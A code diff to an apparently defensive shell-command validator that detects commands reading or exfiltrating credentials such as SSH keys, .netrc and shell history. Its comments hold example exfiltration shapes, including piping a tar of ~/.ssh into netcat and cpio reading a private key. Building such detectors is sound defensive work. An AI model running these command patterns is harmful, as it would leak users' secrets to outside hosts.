@@ -90,7 +90,7 @@ _UPLOADING: dict[str, tuple[tuple[str, ...], ...]] = {
 }
 
 
-def _mentions_secret(cmd: SimpleCommand) -> bool:
+def mentions_secret(cmd: SimpleCommand) -> bool:
     """Cheap first look before any path is resolved: at the words as bash reads them, not only
     as written (``~/.net"rc"`` names ``~/.netrc``), and at any word with a glob, whose matches
     are known only on disk (``~/.netr?``).
@@ -161,20 +161,21 @@ class CredentialRead(Validator):
             return sh.PIPED  # echo F | cpio -o: the names of the files cpio reads
         if program == "find":
             return sh.ANY  # find F -exec cat {} ;: the files found are read by the command
-        return 0 if program in _NON_READERS or program in SENDERS else sh.ANY
+        # any other program: a credential named (every later test needs mentions_secret)
+        return 0 if program in _NON_READERS or program in SENDERS else sh.HINTED
 
     def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
         program = cmd.program
         if program == "getent" and _PASSWORD_DATABASES & set(cmd.args):
             return Verdict.deny(self.id, "prints the password hash database",
                                 hint=_KEY_HINT)
-        if program in _NAMERS and cmd.pipes_into(_NAME_LIST_READERS) and _mentions_secret(cmd):
+        if program in _NAMERS and cmd.pipes_into(_NAME_LIST_READERS) and mentions_secret(cmd):
             path = credential_in(cmd, ctx)  # echo ~/.ssh/id_rsa | cpio -o: cpio reads it
             if path is not None:
                 return _read_verdict(self.id, f"{', '.join(cmd.downstream)} reads", path, ctx,
                                      shows=True)
         if program == "find" and "{}" in cmd.text and (
-                _mentions_secret(cmd) or _FIND_FILTERS & {w.shown for w in cmd.words}):
+                mentions_secret(cmd) or _FIND_FILTERS & {w.shown for w in cmd.words}):
             reader, path = _found_and_read(cmd, ctx)
             if path is not None and catalog.prints(reader) and holds_key_material(path, ctx) and (
                     not _FIND_FILTERS & {w.shown for w in cmd.words}):  # -name '*.pub'
@@ -189,7 +190,7 @@ class CredentialRead(Validator):
                 return _read_verdict(self.id, "find hands on to be read", path, ctx,
                                      shows=False)
         if program in _NON_READERS or _sends(cmd):
-            if program not in _option_readers() or not _mentions_secret(cmd):
+            if program not in _option_readers() or not mentions_secret(cmd):
                 return NO_OPINION
             path = _read_by_option(cmd, ctx)  # file -f LIST, wc --files0-from, openssl -in
             if path is None:
@@ -199,7 +200,7 @@ class CredentialRead(Validator):
             return Verdict.of(Outcome.ASK, self.id, f"{program} reads the credential file "
                               f"{path}", hint="read only the value you need, or ask the user",
                               risk=Risk.HIGH)
-        if not _mentions_secret(cmd):
+        if not mentions_secret(cmd):
             return NO_OPINION
         written = frozenset(id(w) for w in write_targets(cmd))  # cp x .env writes .env
         path = credential_in(cmd, ctx, _not_files(program), skip=written)
@@ -471,12 +472,17 @@ class CredentialSent(Validator):
 
     id = "CG-SEC-002"
 
+    def shapes(self, program: str | None) -> int:
+        if program in ("history", "fc"):
+            return sh.ANY
+        return sh.HINTED | sh.AWAY  # a credential named, or run from another directory
+
     def check(self, cmd: SimpleCommand, ctx: Context) -> Verdict:
         program = cmd.program
         if program in ("history", "fc") and prints_history(cmd) and cmd.pipes_into(SENDERS):
             return Verdict.deny(self.id, f"the shell history is piped into "
                                 f"{', '.join(cmd.downstream)}")
-        if not _mentions_secret(cmd) and not (ctx.cwd != ctx.workspace and is_credential(
+        if not mentions_secret(cmd) and not (ctx.cwd != ctx.workspace and is_credential(
                 ctx.cwd, ctx)):  # cd ~/.ssh && tar -c . | nc h 9: no word names the keys
             return NO_OPINION
         if _sends(cmd):
@@ -560,7 +566,7 @@ def _secret_source(cmd: SimpleCommand, ctx: Context, printed: bool = True) -> st
     what = secret_output(cmd)
     if what is not None:
         return what + (", secrets included" if what.startswith("every") else "")
-    if cmd.program in _NON_READERS or not _mentions_secret(cmd):
+    if cmd.program in _NON_READERS or not mentions_secret(cmd):
         return None
     path = credential_in(cmd, ctx)
     return None if path is None else f"the text of the credential file {path}"
